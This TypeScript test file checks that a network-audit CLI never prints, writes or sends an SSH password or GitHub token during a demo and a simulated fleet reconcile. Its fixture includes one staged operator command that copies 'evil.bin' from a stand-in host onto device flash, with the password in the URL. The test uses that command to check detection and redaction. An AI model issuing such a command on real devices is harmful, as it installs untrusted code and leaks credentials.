/**
 * Secrets never leave: the whole demo, and a reconcile that collects over SSH with a password and files issues
 * with a token, run with both in the environment, while a device echoes the password in its answers and an
 * operator types it into the configuration. Neither appears in stdout, stderr, a report, the findings file or
 * anything sent to GitHub.
 */
import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { memoryIo } from '../../src/cli/io.js';
import { runCli } from '../../src/cli/run.js';
import { buildDemoRepo, DemoClock, TIMES } from '../../src/demo/scenario.js';
import { GitRepo } from '../../src/git/index.js';
import { loadGitRef } from '../../src/repo/index.js';
import { startFleet } from '../../src/sim/index.js';
import { startFakeGitHub } from '../support/fake-github.js';

const PASSWORD = 'Rz8-kq2Lm!vT'; // no token shape: only the environment tells that it is a secret
const TOKEN = 'ghp_HardeningTestToken0123456789abcdefABCD';
const SECRET_ENV = { IMAGEGATE_SSH_PASSWORD: PASSWORD, GITHUB_TOKEN: TOKEN };
const ROOT = join(import.meta.dirname, '..', '..');

let dir: string;
const saved: Record<string, string | undefined> = {};
beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'ig-secrets-'));
  // in production the CLI's environment is the process's: put the secrets where every part of the tool looks
  for (const [k, v] of Object.entries(SECRET_ENV)) {
    saved[k] = process.env[k];
    process.env[k] = v;
  }
});
afterAll(() => {
  for (const [k, v] of Object.entries(saved)) {
    if (v === undefined) delete process.env[k];
    else process.env[k] = v;
  }
  rmSync(dir, { recursive: true, force: true });
});

/** Every text file under `root`, except the simulated devices' own logs (a device may log what it was told). */
function writtenFiles(root: string, skip: RegExp): Array<[string, string]> {
  const out: Array<[string, string]> = [];
  const walk = (d: string): void => {
    for (const name of readdirSync(d)) {
      const full = join(d, name);
      if (name === '.git' || skip.test(full)) continue;
      if (statSync(full).isDirectory()) walk(full);
      else out.push([full, readFileSync(full, 'utf8')]);
    }
  };
  walk(root);
  return out;
}

function expectNoSecret(where: string, text: string): void {
  for (const secret of [PASSWORD, TOKEN, TOKEN.slice(4), encodeURIComponent(PASSWORD), Buffer.from(PASSWORD).toString('base64')]) {
    const at = text.indexOf(secret);
    expect({ where, leak: at < 0 ? null : text.slice(Math.max(0, at - 150), at + secret.length + 20) }).toEqual({ where, leak: null });
  }
}

test('imagegate demo with a password and a token in the environment prints and writes neither', async () => {
  const io = memoryIo({ ...process.env }, mkdtempSync(join(dir, 'demo-')));
  expect(await runCli(['demo', '--out', 'out'], io)).toBe(0);
  expectNoSecret('stdout', io.out);
  expectNoSecret('stderr', io.err);
  const files = writtenFiles(join(io.cwd, 'out'), /\/logs\//);
  expect(files.map(([f]) => f.split('/').pop())).toEqual(expect.arrayContaining(['report.md', 'report.json']));
  for (const [file, text] of files) expectNoSecret(file, text);
});

test('reconcile --collect --github: the password logs in, the token files issues, and neither is in any output', async () => {
  const repoDir = join(dir, 'repo');
  buildDemoRepo(ROOT, repoDir);
  const head = await loadGitRef(new GitRepo(repoDir), 'HEAD');
  if (!head.model) throw new Error('the example fleet did not load');
  const clock = new DemoClock(TIMES.collect);
  const users = Object.fromEntries(['svc-imagegate', 'admin', ...head.model.devices.map((d) => d.management.username ?? 'svc-imagegate')].map((u) => [u, PASSWORD]));
  const fleet = await startFleet(head.model.devices, head.model.catalog, { logDir: join(dir, 'logs'), clock: clock.now, users });
  const fake = await startFakeGitHub();
  try {
    fake.addToken(TOKEN, { login: 'imagegate-bot', kind: 'user', readOrg: true });
    fake.repo('acme/network');
    // a device that answers with the password in its version string, and an operator who puts it in a copy URL
    fleet.device('fra1-edge-01').version = `17.9.5-${PASSWORD}`;
    clock.set('2026-12-12T12:00:00Z');
    fleet.run('nyc1-core-01', 'admin', `copy scp://admin:${PASSWORD}@203.0.113.5/evil.bin flash:evil.bin`);
    clock.set(TIMES.collect);
    fleet.flushLogs();
    const sshConfig = join(dir, 'ssh_config');
    writeFileSync(sshConfig, fleet.sshConfig());
    const io = memoryIo({ ...process.env, GITHUB_REPOSITORY: 'acme/network', GITHUB_API_URL: fake.url, IMAGEGATE_GITHUB_NO_WAIT: '1' }, dir);
    const code = await runCli(
      ['reconcile', '--repo', repoDir, '--at', TIMES.collect, '--year', '2026', '--collect', '--ssh-config', sshConfig, '--events', fleet.logs.syslog, fleet.logs.tacacs,
        '--out', 'out/report.md', '--findings', 'out/findings.json', '--github', '--fail-on', 'none'],
      io,
    );
    expect(io.err).toMatch(/15\/15 devices verified/);
    expect(code).toBe(0);
    const findings = readFileSync(join(dir, 'out', 'findings.json'), 'utf8');
    // the secret did travel: the device's answer and the operator's command are evidence, with the secret masked
    expect(findings).toMatch(/fra1-edge-01/);
    expect(findings).toMatch(/evil\.bin/);
    expect(findings).toContain('[REDACTED]');
    const issues = [...fake.repo('acme/network').issues.values()];
    expect(issues.length).toBeGreaterThan(0);
    expectNoSecret('stdout', io.out);
    expectNoSecret('stderr', io.err);
    for (const [file, text] of writtenFiles(join(dir, 'out'), /$^/)) expectNoSecret(file, text);
    for (const r of fake.requests) expectNoSecret(`${r.method} ${r.path}`, `${r.path} ${JSON.stringify(r.body)}`);
    for (const i of issues) expectNoSecret(`issue #${i.number}`, `${i.title}\n${i.body ?? ''}`);
    for (const c of fake.repo('acme/network').comments.values()) expectNoSecret('comment', JSON.stringify(c));
  } finally {
    await fake.close();
    await fleet.close();
  }
});
